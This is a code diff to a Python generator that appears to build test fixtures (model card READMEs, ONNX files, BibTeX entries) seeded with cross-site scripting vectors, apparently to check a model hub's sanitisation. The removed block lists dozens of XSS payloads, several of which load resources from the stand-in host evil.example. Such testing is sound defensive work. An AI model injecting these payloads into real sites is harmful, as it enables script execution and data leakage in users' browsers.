@@ -1,103 +1,22 @@
 """Cards that try to run a script in the reader's browser, or to make it ask another host for something."""
 
 import json
+import re
 from collections.abc import Iterator
+from pathlib import Path
 
 from onnx import TensorProto, helper
 
+_ESCAPE = re.compile(r"\\(?:\\|n|t|x0[01]|u20[0-9a-f]{2})")
+_LINES = (Path(__file__).parent.parent / "data/scripts/vectors.txt").read_text(encoding="utf-8").splitlines()
 VECTORS = tuple(
-    vector.replace("\\x00", "\0").replace("\\n", "\n").replace("\\t", "\t")
-    for vector in """\
-<script>pwned()</script>
-"><script>pwned()</script>
-'><script>pwned()</script>
-</title><script>pwned()</script>
-</textarea></style></script><script>pwned()</script>
---><script>pwned()</script><!--
-<ScRiPt>pwned()</sCrIpT>
-<script/src=data:,pwned()></script>
-<script src=//evil.example/x.js></script>
-<scr<script>ipt>pwned()</scr</script>ipt>
-<script\\n>pwned()</script\\n>
-<<script>pwned();//<</script>
-&lt;script&gt;pwned()&lt;/script&gt;
-&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;
-&#60;script&#62;pwned()&#60;/script&#62;
-\\u003cscript\\u003epwned()\\u003c/script\\u003e
-<img src=x onerror=pwned()>
-"><img src=x onerror=pwned()>
-" onmouseover=pwned() autofocus onfocus=pwned() x="
-' onmouseover=pwned() autofocus onfocus=pwned() x='
-<img src="x" onerror="pwned()"
-<img/src/onerror=pwned()>
-<img src=x:x onerror\\n=pwned()>
-<img src=`x` onerror=pwned()>
-<image src=x onerror=pwned()>
-<img srcset="https://evil.example/a.png 1x" src=https://evil.example/b.png>
-<svg onload=pwned()>
-<svg><script>pwned()</script></svg>
-<svg><script href=data:,pwned() /></svg>
-<svg><animate onbegin=pwned() attributeName=x dur=1s>
-<svg><a xlink:href="javascript:pwned()"><text y=20>svg link</text></a></svg>
-<svg><style><img src=x onerror=pwned()></style></svg>
-<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">
-<math href="javascript:pwned()">math link</math>
-<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>
-<noscript><p title="</noscript><img src=x onerror=pwned()>">
-<template><script>pwned()</script></template>
-<xmp><p title="</xmp><script>pwned()</script>">
-<plaintext><script>pwned()</script>
-<iframe src="javascript:parent.pwned()"></iframe>
-<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
-<iframe src=https://evil.example/></iframe>
-<object data="javascript:pwned()"></object>
-<object data="data:text/html,<script>parent.pwned()</script>"></object>
-<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'/>">
-<body onload=pwned()>
-<input autofocus onfocus=pwned()>
-<select autofocus onfocus=pwned()><option>x</select>
-<details open ontoggle=pwned()><summary>x</summary></details>
-<video src=x onerror=pwned()></video>
-<video poster=https://evil.example/p.png><source onerror=pwned()></video>
-<audio src=https://evil.example/a.mp3 autoplay></audio>
-<marquee onstart=pwned()>x</marquee>
-<div style="animation-name:x" onanimationstart=pwned()>x</div>
-<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y.png) }</style>
-<p style="background:url(https://evil.example/z.png);position:fixed;inset:0">x</p>
-<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>
-<meta http-equiv=refresh content="0;url=javascript:pwned()">
-<base href=https://evil.example/>
-<form action="javascript:pwned()"><button>go</button></form>
-<a href="javascript:pwned()">link</a>
-<a href=" &#14; javascript:pwned()">link</a>
-<a href="java\\nscript:pwned()">link</a>
-<a href="&#106;avascript&colon;pwned()">link</a>
-<a href="data:text/html,<script>pwned()</script>">link</a>
-<a href="vbscript:pwned()" ping=https://evil.example/ping>link</a>
-[link](javascript:pwned())
-[link](<java\\tscript:pwned()>)
-[link](JaVaScRiPt&colon;pwned())
-![a](javascript:pwned())
-![a"onerror=pwned() x="](x)
-![a](https://evil.example/i.png "t' onload=pwned() '")
-[a](https://evil.example "x\\" onmouseover=pwned()")
-[a]: javascript:pwned() "x"
-<https://x.example/"onmouseover=pwned()>
-<javascript:pwned()>
-javascript:pwned()
-data:text/html,<script>pwned()</script>
-https://x.example/"><script>pwned()</script>
-{{ pwned() }}{% raw %}{{ ''.__class__ }}
-${pwned()}`${pwned()}`
-<a id=config name=document$>x</a><form id=__md_scope><input name=pathname></form>
-<p id=__config>{"base":"https://evil.example"}</p>
-<b\\x00 onmouseover=pwned()>x\\x00<scr\\x00ipt>pwned()</script>
-<!--><img src=x onerror=pwned()>-->
-<![CDATA[<script>pwned()</script>]]>
-<?xml version="1.0"?><script>pwned()</script>
-""".splitlines()
+    _ESCAPE.sub(
+        lambda match: match[0][1:] if match[0] == r"\\" else json.loads(f'"{match[0].replace("x", "u00")}"'), line
+    )
+    for line in _LINES
+    if not line.startswith("# ")
 )
+"""One a line, below the kind; of what a backslash begins, only a few are escapes, for some vectors hold backslashes."""
 
 BODY = """
 Text {v} in a line.
@@ -142,6 +61,7 @@ def make_cards() -> dict[str, str | bytes]:
         front = json.dumps(make_fields(f"{vector} n{number:02}", vector))
         cards[f"v{number:02}/README.md"] = f"---\n{front}\n---\n# {vector}\n{BODY.replace('{v}', vector)}"
         cards[f"v{number:02}/model.onnx"] = make_model(vector)
+        cards[f"v{number:02}/references.bib"] = make_bibtex(f"b{number}", vector)
     lines = [vector.replace("\n", " ").replace("|", "") for vector in VECTORS]
     cards |= {
         "modelhub/config.json": json.dumps(make_modelhub(lines)),
@@ -173,7 +93,7 @@ def make_fields(name: str, v: str) -> dict[str, object]:
         "general": [{v: v}, {"Link": f"[{v}](javascript:pwned())"}],
         "publication": [
             {"title": v, "authors": [v], "source": v, "year": v, "doi": v, "arxiv": v, "abstract": v, v: v},
-            {"title": v, "url": f"https://x.example/{v}", "bibtex": f"@misc{{k, title={{{v}}}, url={{{v}}}}}"},
+            {"title": v, "url": f"https://x.example/{v}", "bibtex": make_bibtex("k", v)},
             {"bibtex": v},
         ],
         "structure": [{"kind": "url", "label": v, "url": v}, {"kind": v, "label": v, "url": "javascript:pwned()"}],
@@ -186,14 +106,22 @@ def make_fields(name: str, v: str) -> dict[str, object]:
     }
 
 
+def make_bibtex(key: str, text: str) -> str:
+    fields = "title author journal year url doi eprint note howpublished publisher abstract keywords".split()
+    return f"@article{{{key},\n" + "".join(f"  {name} = {{{text}}},\n" for name in fields) + "}\n"
+
+
 def make_model(text: str) -> bytes:
     """An ONNX file with `text` for every name in it."""
     value = helper.make_tensor_value_info(text, TensorProto.FLOAT, [text, 4])
-    node = helper.make_node(text, [text], ["out"], domain=text)
+    node = helper.make_node(text, [text, "w"], ["out"], text, doc_string=text, domain=text)
+    weight = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
     out = helper.make_tensor_value_info("out", TensorProto.FLOAT, None)
-    graph = helper.make_graph([node], text, [value], [out])
+    graph = helper.make_graph([node], text, [value], [out], [weight], doc_string=text)
     opsets = [helper.make_opsetid("", 13), helper.make_opsetid(text, 1)]
-    return bytes(helper.make_model(graph, producer_name=text, opset_imports=opsets).SerializeToString())
+    model = helper.make_model(graph, producer_name=text, producer_version=text, domain=text, opset_imports=opsets)
+    helper.set_model_props(model, {"author": text, text: text})
+    return bytes(model.SerializeToString())
 
 
 def make_modelhub(lines: list[str]) -> dict[str, object]:
